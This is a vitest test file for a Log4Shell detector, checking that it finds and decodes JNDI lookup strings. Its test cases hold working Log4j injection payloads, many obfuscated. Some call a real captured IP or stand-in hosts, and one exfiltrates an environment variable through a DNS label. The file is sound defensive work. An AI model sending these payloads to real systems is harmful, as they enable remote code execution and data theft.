import { describe, expect, test } from 'vitest';
import { findJndiLookups, parseJndiName, percentDecode } from './jndi.js';

// Each row: the text as an attacker sends it, and the lookup Log4j would perform, worked out by
// hand from Log4j 2's StrSubstitutor rules (inner `${}` first, first `:-` splits the default,
// lookup prefixes are case-insensitive, unknown lookups fall back to their default).
const CASES: { name: string; text: string; lookup: string; protocol: string; host: string; port: number | null; path: string; obfuscated: boolean; encoding?: string }[] = [
  {
    name: 'plain (Fox-IT ev0 rmi)',
    text: '${jndi:rmi://34.91.73.37:1099/gp9pc7}',
    lookup: 'jndi:rmi://34.91.73.37:1099/gp9pc7',
    protocol: 'rmi',
    host: '34.91.73.37',
    port: 1099,
    path: '/gp9pc7',
    obfuscated: false,
  },
  {
    // `${::-j}`: name "::-j", first ":-" at index 1 -> variable ":" (prefix '' : no lookup) -> default "j".
    name: 'per-letter defaults (Fox-IT ev0 ldap)',
    text: '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://34.91.73.37:1389/Basic/Command/Base64/cGluZyAtYyAxMCAxLjEuMS4x}',
    lookup: 'jndi:ldap://34.91.73.37:1389/Basic/Command/Base64/cGluZyAtYyAxMCAxLjEuMS4x',
    protocol: 'ldap',
    host: '34.91.73.37',
    port: 1389,
    path: '/Basic/Command/Base64/cGluZyAtYyAxMCAxLjEuMS4x',
    obfuscated: true,
  },
  {
    name: 'one default then plain text (ev1)',
    text: 'x ${${::-j}ndi:rmi://34.91.73.37:1099/gp9pc7} y',
    lookup: 'jndi:rmi://34.91.73.37:1099/gp9pc7',
    protocol: 'rmi',
    host: '34.91.73.37',
    port: 1099,
    path: '/gp9pc7',
    obfuscated: true,
  },
  {
    // ${lower:jndi} -> "jndi", ${lower:rmi} -> "rmi": name "jndi:rmi://..." -> a jndi lookup.
    name: 'lower lookups (ev2)',
    text: '${${lower:jndi}:${lower:rmi}://34.91.73.37:1099/gp9pc7}',
    lookup: 'jndi:rmi://34.91.73.37:1099/gp9pc7',
    protocol: 'rmi',
    host: '34.91.73.37',
    port: 1099,
    path: '/gp9pc7',
    obfuscated: true,
  },
  {
    name: 'nested lower (ev3)',
    text: '${${lower:${lower:jndi}}:${lower:ldap}://34.91.73.37:1389/Basic/Command/Base64/cGluZyAtYyAxMCAxLjEuMS4x}',
    lookup: 'jndi:ldap://34.91.73.37:1389/Basic/Command/Base64/cGluZyAtYyAxMCAxLjEuMS4x',
    protocol: 'ldap',
    host: '34.91.73.37',
    port: 1389,
    path: '/Basic/Command/Base64/cGluZyAtYyAxMCAxLjEuMS4x',
    obfuscated: true,
  },
  {
    name: 'lower per letter (ev4)',
    text: '${${lower:j}${lower:n}${lower:d}i:${lower:rmi}://34.91.73.37:1099/gp9pc7}',
    lookup: 'jndi:rmi://34.91.73.37:1099/gp9pc7',
    protocol: 'rmi',
    host: '34.91.73.37',
    port: 1099,
    path: '/gp9pc7',
    obfuscated: true,
  },
  {
    // ${env:X:-} -> variable "env:X" (unknown to us) -> default '' ; "j" + "" + "ndi:..." = "jndi:...".
    name: 'empty env default inside the keyword',
    text: '${j${env:X:-}ndi:ldap://evil.example:1389/a}',
    lookup: 'jndi:ldap://evil.example:1389/a',
    protocol: 'ldap',
    host: 'evil.example',
    port: 1389,
    path: '/a',
    obfuscated: true,
  },
  {
    // upper:j -> "J"; the prefix "Jndi" is lower-cased by Log4j; no port: ldap's default 389.
    name: 'upper and mixed case, default port',
    text: '${${upper:j}ndi:LDAP://Evil.Example/a}',
    lookup: 'jndi:LDAP://Evil.Example/a',
    protocol: 'ldap',
    host: 'evil.example',
    port: 389,
    path: '/a',
    obfuscated: true,
  },
  {
    // %24%7B = "${", %3A = ":", %2F = "/", %7D = "}" (the nDPI capture's form field).
    name: 'URL-encoded',
    text: 'uname=%24%7Bjndi%3Aldap%3A%2F%2F172.16.238.11%3A1389%2Fa%7D&password=',
    lookup: 'jndi:ldap://172.16.238.11:1389/a',
    protocol: 'ldap',
    host: '172.16.238.11',
    port: 1389,
    path: '/a',
    obfuscated: false,
    encoding: 'url',
  },
  {
    // %2524 -> %24 -> "$": encoded twice.
    name: 'URL-encoded twice',
    text: '/q=%2524%257Bjndi:dns://d.example/x%257D',
    lookup: 'jndi:dns://d.example/x',
    protocol: 'dns',
    host: 'd.example',
    port: 53,
    path: '/x',
    obfuscated: false,
    encoding: 'url2',
  },
  {
    // date:'j' formats the quoted literal "j" (SimpleDateFormat), whatever the date.
    name: 'date literals',
    text: "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:dns://x.example/a}",
    lookup: 'jndi:dns://x.example/a',
    protocol: 'dns',
    host: 'x.example',
    port: 53,
    path: '/a',
    obfuscated: true,
  },
  {
    // "env:A:-${env:B:-j}" is substituted first ("env:A:-j"), then split: default "j".
    name: 'nested defaults',
    text: '${${env:A:-${env:B:-j}}ndi${env:C:-:}${env:D:-l}dap${env:E:-:}//h.example:1389/a}',
    lookup: 'jndi:ldap://h.example:1389/a',
    protocol: 'ldap',
    host: 'h.example',
    port: 1389,
    path: '/a',
    obfuscated: true,
  },
  {
    // k8s and sd lookups are unknown here: their defaults "ND" and ":" make "jNDi:ldap://".
    name: 'unknown lookups with defaults',
    text: '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://h.example/a}',
    lookup: 'jndi:ldap://h.example/a',
    protocol: 'ldap',
    host: 'h.example',
    port: 389,
    path: '/a',
    obfuscated: true,
  },
  {
    // upper of the dotless i (U+0131) is "I"; "jndI" lower-cased is the jndi prefix.
    name: 'dotless i',
    text: '${jnd${upper:\u0131}:ldap://h.example/a}',
    lookup: 'jndi:ldap://h.example/a',
    protocol: 'ldap',
    host: 'h.example',
    port: 389,
    path: '/a',
    obfuscated: true,
  },
  {
    // ${env:USER} resolves to '' here: the exfiltration label vanishes, the domain remains.
    name: 'exfiltration in the host',
    text: '${jndi:ldap://${env:USER}.cb.example:1389/a}',
    lookup: 'jndi:ldap://.cb.example:1389/a',
    protocol: 'ldap',
    host: 'cb.example',
    port: 1389,
    path: '/a',
    obfuscated: true,
  },
  {
    name: 'IPv6 callback',
    text: '${jndi:rmi://[2001:db8::1]:1099/obj}',
    lookup: 'jndi:rmi://[2001:db8::1]:1099/obj',
    protocol: 'rmi',
    host: '2001:db8::1',
    port: 1099,
    path: '/obj',
    obfuscated: false,
  },
];

describe('findJndiLookups', () => {
  test.each(CASES)('$name', (c) => {
    const found = findJndiLookups(c.text);
    expect(found).toHaveLength(1);
    const [l] = found;
    expect({ lookup: l!.lookup, protocol: l!.protocol, host: l!.host, port: l!.port, path: l!.path, obfuscated: l!.obfuscated, encoding: l!.encoding }).toEqual({
      lookup: c.lookup,
      protocol: c.protocol,
      host: c.host,
      port: c.port,
      path: c.path,
      obfuscated: c.obfuscated,
      encoding: c.encoding ?? '',
    });
  });

  test.each([
    ['no ${: not evaluated by Log4j', 'jndi:ldap://172.16.238.11:1389/a'],
    ['other lookups only', '${java:version} ${date:yyyy-MM-dd} ${env:HOME}'],
    ['escaped with $$', '$${jndi:ldap://h.example/a}'],
    ['unclosed', '${jndi:ldap://h.example/a'],
    ['plain text', 'GET /index.html HTTP/1.1'],
    ['percent noise', '%zz %24 %7B jndi'],
  ])('%s: none', (_name, text) => {
    expect(findJndiLookups(text)).toEqual([]);
  });

  test('two lookups in one text, each once', () => {
    const found = findJndiLookups('${jndi:ldap://a.example/x} and ${jndi:rmi://b.example:1099/y} and ${jndi:ldap://a.example/x}');
    expect(found.map((f) => `${f.protocol} ${f.host} ${f.port}`)).toEqual(['ldap a.example 389', 'rmi b.example 1099']);
  });

  test('a lookup built by a resolved value is evaluated again', () => {
    // ${::-${jndi:ldap://h.example/a}}: the default is substituted, reaching the jndi lookup.
    expect(findJndiLookups('${::-${jndi:ldap://h.example/a}}').map((f) => f.host)).toEqual(['h.example']);
  });

  test('deep nesting and huge input end without throwing', () => {
    const deep = `${'${lower:'.repeat(5000)}jndi${'}'.repeat(5000)}`;
    expect(() => findJndiLookups(deep)).not.toThrow();
    const wide = '${'.repeat(40000);
    expect(findJndiLookups(wide)).toEqual([]);
  });
});

describe('parseJndiName', () => {
  test.each([
    ['ldap://h.example:1389/a', { protocol: 'ldap', host: 'h.example', port: 1389, explicitPort: true, path: '/a' }],
    ['ldaps://h.example/a', { protocol: 'ldaps', host: 'h.example', port: 636, explicitPort: false, path: '/a' }],
    ['iiop://10.0.0.1', { protocol: 'iiop', host: '10.0.0.1', port: 900, explicitPort: false, path: '' }],
    ['nis://u@h.example:99999/x', { protocol: 'nis', host: 'h.example', port: null, explicitPort: false, path: '/x' }],
    ['corba:iiop:1.2.3.4', { protocol: 'corba', host: '', port: 2809, explicitPort: false, path: 'iiop:1.2.3.4' }],
  ])('%s', (name, expected) => {
    expect(parseJndiName(name)).toEqual(expected);
  });
});

test('percentDecode keeps invalid escapes and decodes UTF-8', () => {
  expect(percentDecode('%24%7B%zz%C3%A9')).toBe('${%zzé');
});
